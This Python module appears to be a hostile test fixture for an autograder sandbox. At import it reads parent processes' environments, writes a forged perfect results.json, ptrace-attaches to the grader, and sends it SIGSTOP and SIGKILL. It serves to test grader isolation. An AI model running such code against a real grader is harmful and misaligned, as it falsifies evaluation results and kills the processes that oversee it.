"""reach_grader: at import, goes after the processes above it: reads their environment (for
AUTOGRADER_ROOT and the results folder), writes a perfect results.json there, attaches to them
with ptrace, stops them (SIGSTOP) and kills them (SIGKILL), as a submission without namespaces
running as the grader's uid could.
Must score: full marks, with every grade of the batch completed and no results.json replaced:
under bubblewrap the parents are outside its pid namespace; without namespaces the child runs
as a uid of its own (no signals, no ptrace, no /proc/<pid>/environ) confined by Landlock.
"""
import ctypes
import json
import os
import signal

_FAKE = json.dumps({"score": 1000.0, "output": "hostile-fake-results", "tests": []})


def _parents():
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 6:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as stream:
                pid = int(stream.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids


def _attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in _parents():
        try:
            with open(f"/proc/{pid}/environ", "rb") as stream:
                environment = dict(item.split(b"=", 1) for item in stream.read().split(b"\0") if b"=" in item)
            root = environment.get(b"AUTOGRADER_ROOT", b"").decode()
            if root:
                os.makedirs(os.path.join(root, "results"), exist_ok=True)
                with open(os.path.join(root, "results", "results.json"), "w") as stream:
                    stream.write(_FAKE)
        except OSError:
            pass
        libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH: freezes the grader if it works
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass


_attack()
